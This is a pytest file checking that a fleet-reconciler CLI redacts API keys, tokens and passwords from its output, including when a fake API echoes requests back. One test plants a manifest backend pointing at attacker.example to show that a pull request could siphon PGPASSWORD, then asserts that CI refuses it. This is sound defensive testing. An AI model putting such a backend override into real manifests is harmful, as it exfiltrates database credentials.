"""No secret the run knows reaches a message, even from an API that echoes the request.

The fake Shadeform here is the emulator behind a front that answers every create with a 400
quoting the request body and the X-API-KEY header, as some APIs do in validation errors.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from starlette.types import Receive, Scope, Send

from reconciler.cli import cli
from reconciler.cli.app import _register_commands
from reconciler.emulator import Emulator, EmulatorConfig
from reconciler.emulator.server import serve_in_thread

_register_commands()

API_KEY = "sk-live-9f8e7d6c5b4a"
HF_TOKEN = "hf_env_token_0123456789"
REGISTRY_USER = "registry-user-from-env"
REGISTRY_PASSWORD = "registry-password-literal"
SECRETS = (API_KEY, HF_TOKEN, REGISTRY_USER, REGISTRY_PASSWORD)

MANIFEST = """\
fleet: echo
instances:
  - name: api
    cloud: hyperstack
    region: canada-1
    shade_instance_type: A6000
    shade_cloud: true
    envs:
      - {name: HF_TOKEN, value: "${env:HF_TOKEN}"}
    launch_configuration:
      type: docker
      docker_configuration:
        image: nginx:1.27
        registry_credentials:
          username: "${env:REGISTRY_USER}"
          password: "registry-password-literal"
"""


class EchoingFront:
    """Passes everything to the emulator, except that creates get a 400 echoing the request."""

    def __init__(self, inner: Emulator) -> None:
        self.inner = inner.app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http" or not scope["path"].endswith("/instances/create"):
            await self.inner(scope, receive, send)
            return
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        key = dict(scope["headers"]).get(b"x-api-key", b"").decode()
        sent = json.loads(body)
        docker = sent["launch_configuration"]["docker_configuration"]
        echoed = json.dumps({"envs": sent["envs"], "registry": docker["registry_credentials"]})
        error = {"error": f"invalid request (key {key}): {echoed}"}
        payload = json.dumps(error).encode()
        await send(
            {
                "type": "http.response.start",
                "status": 400,
                "headers": [(b"content-type", b"application/json")],
            }
        )
        await send({"type": "http.response.body", "body": payload})


@pytest.fixture
def echoing_api() -> Iterator[str]:
    emulator = Emulator(EmulatorConfig(api_key=API_KEY, boot_seconds=0.0))
    with serve_in_thread(EchoingFront(emulator)) as base_url:  # type: ignore[arg-type]
        yield base_url


def test_an_echoed_request_never_shows_a_secret(tmp_path: Path, echoing_api: str) -> None:
    manifest = tmp_path / "echo.yaml"
    manifest.write_text(MANIFEST)
    env = {
        "SHADEFORM_API_KEY": API_KEY,
        "SHADEFORM_API_URL": echoing_api,
        "HF_TOKEN": HF_TOKEN,
        "REGISTRY_USER": REGISTRY_USER,
        "NO_COLOR": "1",
    }
    args = ["apply", str(manifest), "--state-dir", str(tmp_path / "state"), "--auto-approve"]
    result = CliRunner().invoke(cli, args, env=env, catch_exceptions=False)
    assert result.exit_code == 10, result.output
    assert "invalid request (key [redacted])" in result.output  # the echo did arrive
    assert "[redacted]" in result.output
    for secret in SECRETS:
        assert secret not in result.output
        assert json.dumps(secret)[1:-1] not in result.output


def test_a_backend_password_never_shows(tmp_path: Path) -> None:
    url = "postgresql://ci:backend-pw-7788@127.0.0.1:1/fleets?connect_timeout=1"
    result = CliRunner().invoke(
        cli, ["state", "list", "--backend", url], env={"NO_COLOR": "1"}, catch_exceptions=False
    )
    assert result.exit_code != 0
    assert "backend-pw-7788" not in result.output


def test_in_ci_a_manifest_cannot_choose_a_database_backend(tmp_path: Path) -> None:
    """A pull request could point backend: at its own server, which libpq would hand
    PGPASSWORD; in CI only the job chooses the backend."""
    manifest = tmp_path / "m.yaml"
    manifest.write_text(
        "fleet: f\nbackend: postgresql://ci@attacker.example/db\ninstances:\n"
        "  - {name: a, cloud: hyperstack, region: canada-1, shade_instance_type: A6000,"
        " shade_cloud: true}\n"
    )
    args = ["plan", str(manifest), "--sandbox", "--state-dir", str(tmp_path / "state")]
    env = {"CI": "true", "PGPASSWORD": "pg-secret-password", "NO_COLOR": "1"}
    result = CliRunner().invoke(cli, args, env=env, catch_exceptions=False)
    assert result.exit_code == 64, result.output
    assert "Set RECONCILER_BACKEND" in result.output
    assert "pg-secret-password" not in result.output


def test_command_lines_recorded_in_locks_hold_no_secret() -> None:
    from reconciler.cli.session import command_line
    from reconciler.redaction import SECRETS as REGISTRY

    REGISTRY.add("registry-pw-31337")
    recorded = command_line(["apply", "specs/", "--var", "pw=registry-pw-31337"])
    assert "registry-pw-31337" not in recorded and "[redacted]" in recorded


def test_a_key_with_a_trailing_newline_is_still_scrubbed() -> None:
    from reconciler.redaction import SecretRegistry

    registry = SecretRegistry()
    registry.add("sk-live-abcdef123\n")
    assert registry.scrub("key sk-live-abcdef123 used") == "key [redacted] used"
